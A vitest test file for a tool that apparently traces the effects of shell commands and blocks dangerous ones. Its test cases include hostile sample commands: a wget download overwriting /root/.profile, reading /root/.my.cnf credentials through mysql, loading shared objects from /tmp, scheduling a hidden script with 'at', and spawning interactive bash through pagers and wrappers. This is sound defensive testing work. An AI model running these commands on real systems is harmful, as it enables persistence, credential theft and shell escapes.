import { readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { analyse } from '../analyse.ts'
import type { Effect } from './effect.ts'
import { EffectLog } from './effect-log.ts'
import { COMMAND_LINE } from './provenance.ts'

const SPAN = { start: 0, end: 9 }

function effect(more: Partial<Effect> = {}): Effect {
  return {
    kind: 'write',
    program: 'tool',
    target: 'out.txt',
    data: 'a',
    certain: true,
    provenance: COMMAND_LINE,
    frame: undefined,
    span: SPAN,
    ...more,
  }
}

function logOf(...effects: Effect[]): readonly Effect[] {
  const log = new EffectLog()
  for (const one of effects) log.add(one)
  return log.all
}

const SUITES = new URL('../../../../suites/', import.meta.url)

describe('the log of effects', () => {
  it.each(['core', 'evasion', 'twins'])('shows no effect of a sample of %s twice', (suite) => {
    const lines = readFileSync(new URL(`${suite}/samples.jsonl`, SUITES), 'utf8')
      .trim()
      .split('\n')
    const twice = lines.filter((line) => {
      const { effects } = analyse(JSON.parse(line).command).trace()
      const texts = effects.map(({ provenance: _, ...effect }) => JSON.stringify(effect))
      return new Set(texts).size < texts.length
    })
    expect(twice).toEqual([])
  })

  it('holds one effect where a file is opened, and then written to', () => {
    const open = effect({ data: '' })
    expect(logOf(open, effect({ data: 'a' }))).toEqual([effect({ data: 'a' })])
    expect(logOf(effect({ data: 'a' }), effect({ data: 'b' }))).toHaveLength(2)
  })

  it('holds an effect once', () => {
    expect(logOf(effect(), effect({ span: { ...SPAN } }))).toHaveLength(1)
  })

  it.each<[string, Partial<Effect>]>([
    ['another command', { span: { start: 12, end: 20 } }],
    ['other content', { data: 'b' }],
    ['another target', { target: 'other.txt' }],
    ['another program', { program: 'tee' }],
    ['another reason', { how: 'by its own words' }],
    ['everything below', { deep: true }],
    ['who runs it', { frame: { kind: 'wrapper', by: 'env', parent: undefined } }],
  ])('tells %s apart', (_, more) => {
    expect(logOf(effect(), effect(more))).toHaveLength(2)
  })

  it('knows a frame by what it says', () => {
    const frame = () => ({ kind: 'side', by: 'git', parent: undefined }) as const
    expect(logOf(effect({ frame: frame() }), effect({ frame: frame() }))).toHaveLength(1)
  })

  it('leaves a guess out where the effect is known, and learns from what is known later', () => {
    expect(logOf(effect(), effect({ data: '?', certain: false }))).toEqual([effect()])
    expect(logOf(effect({ certain: false }), effect())).toEqual([effect()])
  })

  it('forgets what was taken back', () => {
    const log = new EffectLog()
    log.add(effect({ target: 'first' }))
    const { mark } = log
    log.add(effect())
    expect(log.takeBack(mark)).toEqual([effect()])
    log.add(effect())
    expect(log.all.map(({ target }) => target)).toEqual(['first', 'out.txt'])
  })
})

/** What is known about a program comes first: a guess about the same words adds nothing. */
describe('effects of a command', () => {
  it.each([
    ['sudo wget -q https://example.org/p -O /root/.profile', 'write /root/.profile'],
    ['axel -q -o /dev/shm/kw https://example.org/kw', 'write /dev/shm/kw'],
    ['ssh-keygen -D /tmp/p.so', 'load /tmp/p.so'],
    ['mysql --raw -sNe "select load_file(\'/root/.my.cnf\')"', 'read /root/.my.cnf'],
    ['at -f /tmp/.j/run.sh now + 1 minute', 'run /tmp/.j/run.sh'],
  ])('%s has it once', (command, expected) => {
    const { effects } = analyse(command).trace()
    const found = effects.filter(({ kind, target }) => `${kind} ${target}` === expected)
    expect(found).toHaveLength(1)
  })

  it('names the program that does it, not the one that starts it', () => {
    expect(analyse('sudo wget -q https://example.org/p -O /root/.profile').reason).toMatch(/^wget /)
  })

  it('leaves the words of a command to the program that gets them', () => {
    const command = "nice -n 5 find . -maxdepth 0 -exec bash -c 'vmstat -w 2 10' ';'"
    expect(analyse(command).verdict).toBe('ALLOW')
    // The name of an unknown program may be the value of an option.
    expect(analyse('nice --plugin /tmp/x.so x').verdict).toBe('BLOCK')
  })

  it.each([
    'fakeroot -- bash',
    'dbus-run-session -- bash -l',
    'sg disk -c "bash -i"',
    // No subcommand stands there: its options are read once all the same.
    "portablectl --pager='bash -i' x",
  ])('%s starts its shell once', (command) => {
    const shells = analyse(command)
      .trace()
      .commands.filter(({ arguments: [program] }) => program === 'bash')
    expect(shells).toHaveLength(1)
  })
})
